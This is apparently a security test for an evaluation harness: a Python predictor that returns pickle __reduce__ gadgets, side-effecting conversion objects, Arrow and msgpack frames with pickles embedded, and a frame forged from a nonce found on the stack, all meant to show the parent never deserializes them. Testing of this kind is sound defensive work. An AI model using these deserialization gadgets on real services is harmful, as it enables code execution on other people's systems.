"""Answers with objects that act when they are unpacked, converted or read, and writes such bytes straight into the answers.

Against it: an answer is numbers or `wrong_type`, and nothing of it is called; the parent reads one kind of frame and neither
pickle nor Arrow (pyarrow CVE-2023-47248; OpenEnv #1200). The marker file must exist nowhere.
"""

import array
import os
import pickle
import struct
import sys

import numpy as np
import pandas as pd
import pyarrow as pa
from toolbox import TARGETS, is_wanted, libc, report

MARKER = os.path.join(TARGETS.get("marker", "/tmp"), "blindcast-attack-" + str(TARGETS.get("variant", "a35")))
FLAGS = os.O_CREAT | os.O_WRONLY


def act(*_):
    """Leave the marker, past any hook."""
    libc.open(MARKER.encode(), FLAGS, 0o666)
    return 0.5


class Unpacked:
    def __reduce__(self):
        return os.open, (MARKER, FLAGS, 0o666)


class Converted:
    __float__ = __int__ = __index__ = __array__ = __complex__ = __bool__ = __len__ = __round__ = __neg__ = __add__ = __radd__ = act

    def __iter__(self):
        act()
        return iter([0.5])

    def __getattr__(self, name):
        act()
        raise AttributeError(name)


class Float(float):
    __float__ = __pos__ = __add__ = __mul__ = __eq__ = __reduce__ = __repr__ = act
    __hash__ = float.__hash__


class Int(int):
    __float__ = __pos__ = __index__ = __int__ = __add__ = __reduce__ = act


class Array(np.ndarray):
    __array_ufunc__ = __array_function__ = __array_priority__ = __reduce__ = __float__ = act


def generator():
    act()
    yield 0.5


def objects(values):
    """An array of objects, filled without asking them anything."""
    made = np.empty(len(values), dtype=object)
    for i, value in enumerate(values):
        made[i] = value
    return made


def raised(remaining):
    raise type("Odd", (Exception,), {"__reduce__": Unpacked.__reduce__})


ANSWERS = {  # four of a kind: one at every other anchor of two windows
    "reduce": (lambda n: Unpacked(), lambda n: [Unpacked()] * n, lambda n: {i: Unpacked() for i in range(n)}, raised),
    "converted": (lambda n: Converted(), lambda n: [Converted()] * n, lambda n: Converted, lambda n: (Converted(),) * n),
    "numbers": (lambda n: Float(0.5), lambda n: [Float(0.5)] * n, lambda n: Int(1), lambda n: np.full(n, 0.5).view(Array)),
    "objects": (
        lambda n: objects([Unpacked()] * n),
        lambda n: objects([Converted()] * n),
        lambda n: np.array(Unpacked(), dtype=object),
        lambda n: pd.Series([Unpacked()] * n, dtype=object),
    ),
    "containers": (lambda n: pd.DataFrame({"a": [0.5] * n}), lambda n: generator(), lambda n: pa.array([0.5] * n), lambda n: {0.5}),
    "bytes": (
        lambda n: pickle.dumps(Unpacked()),
        lambda n: memoryview(array.array("d", [0.5] * n)),
        lambda n: np.void(pickle.dumps(Unpacked())),
        lambda n: np.zeros(n, dtype=[("a", "f8")]),
    ),
}


def stream():
    sink = pa.BufferOutputStream()
    batch = pa.record_batch([pa.array([pickle.dumps(Unpacked())])], names=["a"])
    with pa.ipc.new_stream(sink, batch.schema) as writer:
        writer.write_batch(batch)
    return sink.getvalue().to_pybytes()


def framed(body):
    return struct.pack("<I", len(body)) + body


def extension():
    """A frame with pickle in a msgpack extension of type 1."""
    body = pickle.dumps(Unpacked())
    return framed(b"\x93\xa3log\xa4info\xc7" + bytes([len(body)]) + b"\x01" + body)


def asked():
    frame = sys._getframe()
    while frame is not None:
        for held in list(frame.f_locals.values()):
            if isinstance(getattr(held, "nonce", None), bytes):
                return held.seq, held.nonce
        frame = frame.f_back
    return 0, bytes(16)


def in_curve():
    """A frame of the right request whose data is pickle."""
    seq, nonce = asked()
    body = pickle.dumps(Unpacked())
    return framed(b"\x95\xa5curve\xce" + struct.pack(">I", seq) + b"\xc4\x10" + nonce + b"\xa2ok\xc4" + bytes([len(body)]) + body)


def in_state():
    body = pickle.dumps(Unpacked())
    return framed(b"\x94\xa5state\x01\x00\xc4" + bytes([len(body)]) + body)


RAW = {
    "raw_pickle": lambda: pickle.dumps(Unpacked()),
    "raw_pickle_0": lambda: pickle.dumps(Unpacked(), 0),
    "framed_pickle": lambda: framed(pickle.dumps(Unpacked())),
    "raw_arrow": stream,
    "framed_arrow": lambda: framed(stream()),
    "framed_npy": lambda: framed(b"\x93NUMPY\x01\x00" + pickle.dumps(Unpacked())),
    "framed_json": lambda: framed(b'{"type": "curve", "reward": NaN}'),
    "extension": extension,
    "in_curve": in_curve,
    "in_state": in_state,
}


class Predictor:
    answers = 0

    def predict(self, view):
        for name, make in RAW.items():
            if is_wanted(name):
                os.write(4, make())
        for name, makes in ANSWERS.items():
            if is_wanted(name) and view.anchor % 2 == 0:
                report(name, "nothing", "answered")
                self.answers += 1
                return makes[self.answers % 4](len(view.horizons))
        return 0.5
